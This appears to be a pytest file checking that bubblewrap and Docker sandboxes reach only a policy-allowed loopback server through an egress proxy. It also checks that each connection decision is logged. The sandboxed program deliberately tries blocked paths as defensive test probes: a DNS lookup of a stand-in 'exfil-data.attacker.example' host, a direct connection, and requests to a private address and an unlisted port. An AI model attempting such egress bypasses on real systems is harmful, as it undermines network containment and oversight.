"""The design in docs/network.md, end to end on both backends' mechanisms: a sandbox with no
network of its own (bubblewrap `--unshare-all`; Docker `network_mode="none"`), the proxy's Unix
socket bound in, the stdlib forwarder on the sandbox's loopback, `http_proxy` set. The code
inside reaches the allowed loopback server and nothing else, and every attempt is recorded.

These build their own minimal sandbox command lines; the backends' own wiring is their tests'.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from sandgate.egress import EgressProxy, findings_from_decisions, proxy_environment, rules
from sandgate.egress.forwarder import forwarder_source
from sandgate.policy.model import NetworkPolicy

INSIDE = "/run/sandgate-egress"


def program(port: int) -> str:
    return (
        forwarder_source()
        + f'''
import os, socket, urllib.request
start("{INSIDE}/egress.sock", port=3128)
def fetch(url):
    try:
        return urllib.request.urlopen(url, timeout=5).read().decode()
    except Exception as exc:
        return "refused: " + str(exc)
print("allowed:", fetch("http://127.0.0.1:{port}/inside"))
print("other-port:", fetch("http://127.0.0.1:{port + 1 if port < 65535 else port - 1}/"))
print("private:", fetch("http://10.1.2.3/"))
try:
    socket.getaddrinfo("exfil-data.attacker.example", 80)
    print("dns: answered")
except OSError as exc:
    print("dns: failed")
try:
    socket.create_connection(("1.1.1.1", 80), timeout=2)
    print("direct: connected")
except OSError:
    print("direct: failed")
import sys
sys.stdout.flush()
# Daemon threads at interpreter exit call pthread_exit, which needs libgcc_s.so.1; the Docker
# image has none (see docs/network.md): leave without finalising.
os._exit(0)
'''
    )


@pytest.fixture
def socket_dir() -> Iterator[Path]:
    parent = Path(tempfile.mkdtemp(prefix="sg-"))  # 0700: nobody else on the host reaches in
    inner = parent / "egress"
    inner.mkdir()
    inner.chmod(0o711)  # the container's user must traverse the one directory it is given
    yield inner
    shutil.rmtree(parent, ignore_errors=True)


def check(stdout: str, proxy: EgressProxy, port: int) -> None:
    lines = dict(line.split(": ", 1) for line in stdout.strip().splitlines())
    assert lines["allowed"] == "hello from /inside"
    assert lines["other-port"].startswith("refused: HTTP Error 403")
    assert lines["private"].startswith("refused: HTTP Error 403")
    assert lines["dns"] == "failed"  # no resolver inside: a look-up carries nothing out
    assert lines["direct"] == "failed"  # no route but the proxy
    decisions = proxy.decisions()
    assert [(d.host, d.allowed) for d in decisions] == [("127.0.0.1", True), ("127.0.0.1", False), ("10.1.2.3", False)]
    assert decisions[1].rule == rules.RULE_PORT
    denied = [f for f in findings_from_decisions(decisions) if f.rule == "network.denied"]
    assert [(f.detail("host"), f.detail("port")) for f in denied] == [
        ("127.0.0.1", decisions[1].port),
        ("10.1.2.3", 80),
    ]


def test_bubblewrap_sandbox_reaches_only_what_the_policy_allows(socket_dir, http_server):
    bwrap = shutil.which("bwrap")
    assert bwrap, "bubblewrap is required (scripts/setup-sandbox.sh installs it)"
    policy = NetworkPolicy(allow_hosts=(f"127.0.0.1:{http_server.port}",))
    with EgressProxy(policy, unix_path=socket_dir / "egress.sock", tcp_port=None) as proxy:
        env = [
            arg
            for name, value in proxy_environment("http://127.0.0.1:3128").items()
            for arg in ("--setenv", name, value)
        ]
        argv = [
            bwrap,
            "--unshare-all",
            "--unshare-user",
            "--die-with-parent",
            "--clearenv",
            *env,
            "--ro-bind",
            "/usr",
            "/usr",
            "--symlink",
            "usr/lib",
            "/lib",
            "--symlink",
            "usr/lib64",
            "/lib64",
            "--symlink",
            "usr/bin",
            "/bin",
            "--proc",
            "/proc",
            "--dev",
            "/dev",
            "--ro-bind",
            str(socket_dir),
            INSIDE,
            "/usr/bin/python3",
            "-I",
            "-S",
            "-c",
            program(http_server.port),
        ]
        done = subprocess.run(argv, capture_output=True, text=True, timeout=60)
        assert done.returncode == 0, done.stderr
        check(done.stdout, proxy, http_server.port)


def test_docker_sandbox_reaches_only_what_the_policy_allows(socket_dir, http_server):
    docker = pytest.importorskip("docker")
    from sandgate.sandbox.image import ensure_image

    client = docker.from_env()
    image, _built = ensure_image(client)
    policy = NetworkPolicy(allow_hosts=(f"127.0.0.1:{http_server.port}",))
    # The container runs as another uid: the socket is world-connectable, inside a directory
    # that only this container is given.
    with EgressProxy(policy, unix_path=socket_dir / "egress.sock", unix_mode=0o666, tcp_port=None) as proxy:
        container = client.containers.run(
            image,
            ["/usr/bin/python3", "-I", "-S", "-c", program(http_server.port)],
            network_mode="none",
            user="65534:65534",
            read_only=True,
            detach=True,
            environment=proxy_environment("http://127.0.0.1:3128"),
            volumes={str(socket_dir): {"bind": INSIDE, "mode": "ro"}},
        )
        try:
            status = container.wait(timeout=60)
            stdout = container.logs(stdout=True, stderr=False).decode()
            stderr = container.logs(stdout=False, stderr=True).decode()
        finally:
            container.remove(force=True)
        assert status["StatusCode"] == 0, stderr
        check(stdout, proxy, http_server.port)
    assert os.path.exists(socket_dir) and not (socket_dir / "egress.sock").exists()
